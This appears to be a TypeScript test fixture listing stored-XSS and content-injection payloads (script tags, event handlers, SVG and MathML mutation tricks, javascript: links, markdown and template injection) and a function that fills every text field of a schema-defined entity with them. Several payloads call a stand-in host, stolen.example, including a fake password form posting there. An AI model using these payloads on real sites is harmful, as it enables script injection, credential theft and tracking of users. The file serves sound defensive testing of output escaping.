/** A foreign server that must never be called. */
export const STOLEN = 'https://stolen.example'

/** The payload of each script: it reports to the page that it ran. */
const RUN = 'hit()'

const BASE64 = Buffer.from(`<script>top.${RUN}</script>`).toString('base64')

/**
 * Texts that run a script, call a foreign server or navigate there if a page renders them as anything but text. Most
 * come from public lists; those with namespaces and comments change their meaning when they are parsed twice.
 */
export const STORED_SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt src="${STOLEN}/x.js"></sCrIpT>`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `</title></textarea></style></script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${STOLEN}/pixel.png">`,
  `<img src=x:x onerror="&#104;it()">`,
  `<img srcset="${STOLEN}/a.png 1x, ${STOLEN}/b.png 2x">`,
  `<picture><source srcset="${STOLEN}/p.png"><img src=x></picture>`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${RUN}"/><a href="#"><text y=20>x</text></a></svg>`,
  `<svg><image href="${STOLEN}/svg.png"/><use href="${STOLEN}/u.svg#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:top.${RUN}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">click</math>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  `<iframe src="javascript:top.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>top.${RUN}</script>"></iframe>`,
  `<iframe src="${STOLEN}/frame"></iframe>`,
  `<object data="data:text/html;base64,${BASE64}"></object>`,
  `<embed src="data:text/html;base64,${BASE64}">`,
  `<a href="javascript:${RUN}">a link</a>`,
  `<a href="java\tscript:${RUN}">a link</a>`,
  `<a href=" &#1;javascript:${RUN}">a link</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">a link</a>`,
  `<a href="vbscript:${RUN}">a link</a>`,
  `<a href="${STOLEN}/" ping="${STOLEN}/ping" target=_self>a link</a>`,
  `<meta http-equiv="refresh" content="0;url=${STOLEN}/">`,
  `<base href="${STOLEN}/">`,
  `<link rel=stylesheet href="${STOLEN}/x.css">`,
  `<link rel=prefetch href="${STOLEN}/next">`,
  `<style>@import "${STOLEN}/x.css"; body{display:none;background:url(${STOLEN}/bg.png)}</style>`,
  `<p style="background:url('${STOLEN}/bg.png');position:fixed;inset:0;z-index:9999">over everything</p>`,
  `<form action="${STOLEN}/take"><input name=password autofocus onfocus=${RUN}><button>Sign in</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video src="${STOLEN}/v.mp4" poster="${STOLEN}/p.png" autoplay onloadstart=${RUN}></video>`,
  `<audio src="${STOLEN}/a.mp3" autoplay onerror=${RUN}></audio>`,
  `<body onload=${RUN}><marquee onstart=${RUN}>x</marquee>`,
  `<input type=image src="${STOLEN}/i.png"><isindex action="javascript:${RUN}">`,
  `<div id=root></div><div name=queries></div><img name=getElementById src=x>`,
  `[a link](javascript:${RUN})`,
  `[a link](JaVaScRiPt:${RUN} "title")`,
  `[a link](&#x6A;avascript:${RUN})`,
  `[a link][1]\n\n[1]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `![a picture](${STOLEN}/markdown.png)`,
  `![a picture](x"onerror="${RUN})`,
  `![a picture][2]\n\n[2]: ${STOLEN}/reference.png "title"`,
  `[![a picture](${STOLEN}/inner.png)](${STOLEN}/outer)`,
  `![x](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`).toString('base64')})`,
  `${STOLEN}/bare-address and www.stolen.example and someone@stolen.example`,
  `\`\`\`html"onmouseover="${RUN}\n<script>${RUN}</script>\n\`\`\``,
  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `\u202e<script>${RUN}</script>\u0000<img/src/onerror=${RUN}>`.replaceAll('\u0000', ''),
]

interface Schema {
  readonly $ref?: string
  readonly type?: string | readonly string[]
  readonly enum?: readonly unknown[]
  readonly const?: unknown
  readonly anyOf?: readonly Schema[]
  readonly items?: Schema
  readonly properties?: Readonly<Record<string, Schema>>
  readonly minimum?: number
}

/** Times, ids and observables are validated and do not accept such texts. */
const CHECKED =
  /(?:^id|^idref|_ref|_refs|^kind|_vocab|time|timestamp|datetime|_seen|^created|^modified|^published|valid_\w+|_started|_ended|^submitted|^extracts|^attachments|^external_id)$/

/** Data of an entity type with a stored script in every text field, at any depth. */
export function hostileData(schemas: Readonly<Record<string, Schema>>, name: string): Record<string, unknown> {
  let at = 0
  const text = () => STORED_SCRIPTS[at++ % STORED_SCRIPTS.length] ?? ''
  const filled = (schema: Schema, depth: number): unknown => {
    if (schema.$ref) return filled(schemas[schema.$ref.replace(/.*\//, '')] ?? {}, depth)
    if (schema.const !== undefined) return schema.const
    if (schema.enum) return schema.enum[0]
    if (schema.anyOf) return filled(schema.anyOf[0] ?? {}, depth)
    const type = [schema.type].flat()[0]
    if (type === 'string') return text()
    if (type === 'integer' || type === 'number') return schema.minimum ?? 1
    if (type === 'boolean') return true
    if (type === 'array') return [filled(schema.items ?? {}, depth + 1)].filter((item) => item !== undefined)
    if (type !== 'object' || depth > 4) return undefined
    if (Object.keys(schema.properties ?? {}).length === 0) return { [text()]: text() }
    const fields = Object.entries(schema.properties ?? {}).filter(([field]) => !CHECKED.test(field))
    const values = fields.map(([field, inner]) => [field, filled(inner, depth + 1)])
    return Object.fromEntries([...values.filter(([, value]) => value !== undefined), ['other', { [text()]: text() }]])
  }
  return filled(schemas[name] ?? {}, 0) as Record<string, unknown>
}
